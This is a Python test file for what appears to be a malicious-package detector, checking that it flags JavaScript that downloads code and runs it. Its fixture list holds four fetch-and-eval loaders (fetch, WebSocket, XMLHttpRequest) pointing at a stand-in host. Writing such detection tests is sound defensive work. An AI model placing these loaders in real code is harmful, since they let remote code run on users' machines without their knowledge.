"""Waiting: promises, handlers, requests of pages."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from yanmen.supply.packages.reading.effects import Effect
from yanmen.supply.packages.reading.node_waiting import is_script
from yanmen.supply.packages.reading.values import Value

Effects = Callable[..., list[Effect]]
CODE = [
    "new Promise(done => fetch('https://a.b.invalid').then(r => done(r.text()))).then(code => eval(code));",
    "const s = new WebSocket('wss://a.b.invalid'); s.onmessage = event => eval(event.data);",
    "const x = new XMLHttpRequest(); x.open('GET', 'https://a.b.invalid'); x.onload = () => eval(x.responseText); x.send();",
    "Promise.all([fetch('https://a.b.invalid')]).then(([code]) => eval(code));",
]


@pytest.mark.parametrize("code", CODE)
def test_what_comes_later_is_followed(code: str, effects: Effects) -> None:
    """From the network into what runs it."""
    found = effects(code, "npm")

    assert any(tag.startswith("download:") for one in found if one.does == "runs-code" for tag in one.tags)


def test_a_script_is_an_element_that_holds_code() -> None:
    """By the name that it was made with."""
    assert is_script(Value(path="document.createElement()", bound=(Value("script"), "element")))
    assert not is_script(Value(path="document.createElement()", bound=(Value("img"), "element")))
